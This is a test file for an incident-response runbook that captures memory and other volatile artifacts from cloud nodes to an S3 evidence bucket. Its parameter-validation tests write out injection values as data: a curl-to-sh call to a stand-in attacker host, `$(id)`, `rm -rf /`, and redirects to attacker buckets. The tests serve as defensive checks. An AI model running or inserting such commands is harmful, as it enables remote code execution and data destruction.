import { execFileSync, spawnSync } from 'child_process';
import { createHash } from 'crypto';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { CAPTURED_ARTIFACTS, captureCommandDocument } from '../../lib/response/runbooks/capture-volatile-artifacts';
import { runbookScript } from '../../lib/response/runbooks/scripts';

const BUCKET = 'sc-111122223333-pp-abc-evidencebucket-1a2b3c4d5e6f';
const REGION = 'eu-west-1';
const avml = '#!/bin/sh\necho "memory image" > "$2"\n';
const AVML_SHA = createHash('sha256').update(avml).digest('hex');

/** The product's IR-6 Command document for a configured checksum (or none). */
const commandDocument = (avmlSha256: string): any =>
  captureCommandDocument({ evidenceBucketName: BUCKET, avmlObjectKey: 'tools/avml', avmlSha256, region: REGION });

/** The script as Run Command runs it: the document's lines with its {{ }} parameters filled in. */
function captureScript(document: any, values: Record<string, string>): string {
  const script = (document.mainSteps[0].inputs.runCommand as string[]).join('\n');
  return script.replace(/\{\{\s*([\w.]+)\s*\}\}/g, (_, name: string) => {
    if (!(name in values)) throw new Error(`no value for {{ ${name} }}`);
    return values[name];
  });
}

const url = (key: string) =>
  `https://${BUCKET}.s3.${REGION}.amazonaws.com/${key}?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIA%2F20260101%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Signature=ab12`;
const uploadUrls = (names: readonly string[]) =>
  names.map((a) => `${a} ${url(`incidents/INC-1/i-0123456789abcdef0/${a}`)}`).join(' ');

/** Runs the script on this machine with fakes for the node's tools; returns what curl uploaded, in order. */
function runCapture(options: { captureMemory: boolean; configured?: string }) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'capture-'));
  const bin = path.join(dir, 'bin');
  fs.mkdirSync(bin);
  const log = path.join(dir, 'uploads.log');
  const fake = (name: string, body: string) =>
    fs.writeFileSync(path.join(bin, name), `#!/bin/bash\n${body}\n`, { mode: 0o755 });
  for (const tool of ['ps', 'ss', 'ip', 'ctr', 'last', 'lsmod']) fake(tool, `echo "${tool} $*"`);
  // This machine's disk is not a node's: report room for its memory image.
  fake('df', 'echo Avail; echo 999999999');
  // curl: a download writes the fake AVML (-o), an upload records the file and its Content-MD5 header (-T … -H …).
  fake(
    'curl',
    `out=""; file=""; md5=""
while [ $# -gt 0 ]; do case "$1" in -o) out=$2; shift;; -T) file=$2; shift;; -H) md5=$2; shift;; esac; shift; done
if [ -n "$out" ]; then printf '%s' '${avml.replace(/\n/g, '\\n')}' | sed 's/\\\\n/\\n/g' > "$out"; else echo "$file|$md5" >> "${log}"; fi`,
  );
  const configured = options.configured ?? AVML_SHA;
  const script = captureScript(commandDocument(configured), {
    CaptureMemory: String(options.captureMemory),
    AvmlSha256: configured,
    AvmlUrl: url('tools/avml'),
    UploadUrls: uploadUrls(CAPTURED_ARTIFACTS),
  });
  const file = path.join(dir, 'capture.sh');
  fs.writeFileSync(file, script);
  const result = spawnSync('bash', [file], {
    env: { ...process.env, PATH: `${bin}:${process.env.PATH}`, TMPDIR: dir },
    encoding: 'utf8',
  });
  const uploads = fs.existsSync(log)
    ? fs
        .readFileSync(log, 'utf8')
        .trim()
        .split('\n')
        .map((l) => l.split('|'))
    : [];
  fs.rmSync(dir, { recursive: true, force: true });
  return { status: result.status, stderr: result.stderr, stdout: result.stdout, uploads };
}

const hasTools = ['bash', 'openssl', 'split', 'sha256sum'].every(
  (tool) => spawnSync('bash', ['-c', `command -v ${tool}`]).status === 0,
);
// The script writes under /var/tmp like on a node; skip where that is not writable.
const canWrite = (() => {
  try {
    execFileSync('bash', ['-c', 'd=$(mktemp -d /var/tmp/t.XXXX) && rmdir "$d"']);
    return true;
  } catch {
    return false;
  }
})();
const maybe = hasTools && canWrite ? test : test.skip;

describe('IR-6 capture script (lib/response/runbooks/scripts/capture-volatile-artifacts.sh), run with fake node tools', () => {
  maybe(
    'captures memory as one part (small image) and every text artifact, each with Content-MD5, the manifest last',
    () => {
      const { status, stderr, uploads } = runCapture({ captureMemory: true });
      expect([status, stderr]).toEqual([0, '']);
      const names = uploads.map(([name]) => name);
      expect(names).toEqual(
        CAPTURED_ARTIFACTS.filter((a) => !a.startsWith('memory.lime.part') || a === 'memory.lime.part00'),
      );
      for (const [, header] of uploads) expect(header).toMatch(/^Content-MD5: [A-Za-z0-9+/]{22}==$/);
    },
  );
  maybe('without memory capture, no memory part is uploaded', () => {
    const { status, uploads } = runCapture({ captureMemory: false });
    expect(status).toBe(0);
    expect(uploads.map(([name]) => name).some((n) => n.startsWith('memory'))).toBe(false);
    expect(uploads[uploads.length - 1][0]).toBe('manifest.sha256');
  });
  maybe('an AVML that does not match the configured checksum stops the capture before anything is uploaded', () => {
    const { status, stderr, uploads } = runCapture({ captureMemory: true, configured: 'a'.repeat(64) });
    expect(status).not.toBe(0);
    expect(stderr).toMatch(/CAPTURE FAILED: AVML SHA-256 mismatch/);
    expect(uploads).toEqual([]);
  });
  maybe('without a configured checksum it refuses to run at all, memory capture or not', () => {
    for (const captureMemory of [true, false]) {
      const { status, stderr, uploads } = runCapture({ captureMemory, configured: '' });
      expect(status).not.toBe(0);
      expect(stderr).toMatch(
        /no AVML SHA-256 is configured for the product \(incidentResponse.avmlSha256\): IR-6 refuses to run/,
      );
      expect(uploads).toEqual([]);
    }
  });
});

describe("the Command document's parameters carry nothing but the evidence bucket's presigned URLs", () => {
  const parameters = commandDocument(AVML_SHA).parameters;
  const accepts = (parameter: string, value: string) => new RegExp(parameters[parameter].allowedPattern).test(value);

  test('the checksum is the configured one only; without one, only the empty value (and the script refuses)', () => {
    expect(parameters.AvmlSha256).toMatchObject({ allowedValues: [AVML_SHA], default: AVML_SHA });
    expect(commandDocument('').parameters.AvmlSha256).toMatchObject({ allowedPattern: '^$', default: '' });
    expect(parameters.CaptureMemory.allowedValues).toEqual(['true', 'false']);
  });

  test('realistic URLs pass', () => {
    expect(accepts('AvmlUrl', url('tools/avml'))).toBe(true);
    expect(accepts('UploadUrls', uploadUrls(CAPTURED_ARTIFACTS))).toBe(true);
  });

  test.each([
    ['AvmlUrl', 'a quote that ends the shell string', `${url('tools/avml')}'$(curl attacker.example|sh)'`],
    ['AvmlUrl', 'another bucket', url('tools/avml').replace(BUCKET, 'attacker-bucket')],
    ['AvmlUrl', 'another object of the bucket', url('tools/other')],
    ['AvmlUrl', 'another host', 'https://attacker.example/tools/avml?x=1'],
    ['UploadUrls', 'an upload outside incidents/', `processes.txt ${url('tools/avml')}`],
    ['UploadUrls', 'an upload to another bucket', uploadUrls(['processes.txt']).replace(BUCKET, 'attacker-bucket')],
    [
      'UploadUrls',
      'a command substitution',
      `processes.txt ${url('incidents/INC-1/i-0123456789abcdef0/processes.txt')}$(id)`,
    ],
    ['UploadUrls', 'a new line', `${uploadUrls(['processes.txt'])}\nrm -rf /`],
  ])('%s refuses %s', (parameter, _, value) => {
    expect(accepts(parameter, value)).toBe(false);
  });

  const hasBoto3 = spawnSync('python3', ['-c', 'import boto3']).status === 0;
  (hasBoto3 ? test : test.skip)(
    'the URLs the presign step makes (boto3, with temporary credentials) match the patterns',
    () => {
      const script = runbookScript('presign-capture-urls.py');
      const program = `${script}\nimport json, sys\nprint(json.dumps(presign(json.load(sys.stdin), None)))\n`;
      const events = {
        Region: REGION,
        Bucket: BUCKET,
        AvmlKey: 'tools/avml',
        AvmlSha256: AVML_SHA,
        Artifacts: [...CAPTURED_ARTIFACTS],
        IncidentId: 'INC-2026-0001',
        InstanceId: 'i-0123456789abcdef0',
        CaptureMemory: 'true',
      };
      const env = {
        ...process.env,
        AWS_ACCESS_KEY_ID: 'ASIAEXAMPLEEXAMPLE12',
        AWS_SECRET_ACCESS_KEY: 'x'.repeat(40),
        AWS_SESSION_TOKEN: 'IQoJb3JpZ2luX2VjEB/+=abc'.repeat(20),
        AWS_EC2_METADATA_DISABLED: 'true',
      };
      const run = spawnSync('python3', ['-c', program], { input: JSON.stringify(events), env, encoding: 'utf8' });
      expect(run.stderr).toBe('');
      const answer = JSON.parse(run.stdout);
      expect(accepts('AvmlUrl', answer.AvmlUrl)).toBe(true);
      expect(accepts('UploadUrls', answer.UploadUrls)).toBe(true);
      expect(answer.ArtifactKeys).toHaveLength(CAPTURED_ARTIFACTS.length);
      const refused = spawnSync('python3', ['-c', program], {
        input: JSON.stringify({ ...events, AvmlSha256: '' }),
        env,
        encoding: 'utf8',
      });
      expect(refused.status).not.toBe(0);
      expect(refused.stderr).toMatch(/IR-6 refuses to run/);
    },
  );
});
